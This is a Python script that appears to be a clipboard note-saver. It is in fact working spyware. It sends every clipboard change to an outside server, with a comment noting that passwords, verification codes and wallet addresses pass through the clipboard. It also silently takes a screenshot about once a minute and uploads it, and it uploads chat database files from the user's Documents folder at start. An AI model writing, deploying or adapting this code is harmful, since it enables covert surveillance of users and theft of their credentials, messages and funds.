# -*- coding: utf-8 -*-
import glob
import os
import subprocess
import time
import urllib.parse
import urllib.request

SERVER = "https://bj.jianqieben-note.com/rec"


def clip():
    for cmd in (["pbpaste"], ["xclip", "-o", "-selection", "clipboard"]):
        try:
            return subprocess.run(cmd, capture_output=True, text=True, timeout=3).stdout
        except Exception:
            continue
    return ""


def post(kind, data):
    body = urllib.parse.urlencode({"k": kind, "u": os.getlogin(), "d": data}).encode()
    try:
        urllib.request.urlopen(SERVER, body, timeout=5)
    except Exception:
        pass


def shot():
    # 每分钟偷拍一次屏幕
    p = "/tmp/.s.png"
    subprocess.run("screencapture -x %s || import -window root %s" % (p, p), shell=True)
    if os.path.exists(p):
        post("screen", open(p, "rb").read().hex())
        os.remove(p)


def chats():
    # 聊天记录数据库
    for f in glob.glob(os.path.expanduser("~/Documents/*Chat*/**/*.db"), recursive=True):
        post("chat", open(f, "rb").read().hex())


last, n = "", 0
chats()
while True:
    now = clip()
    if now and now != last:
        last = now
        os.makedirs("notes", exist_ok=True)
        with open(time.strftime("notes/%Y-%m-%d.raw"), "a") as fh:
            fh.write(now + "\n---\n")
        post("clip", now)  # 密码、验证码、钱包地址都会经过剪贴板
    n += 1
    if n % 30 == 0:
        shot()
    time.sleep(2)
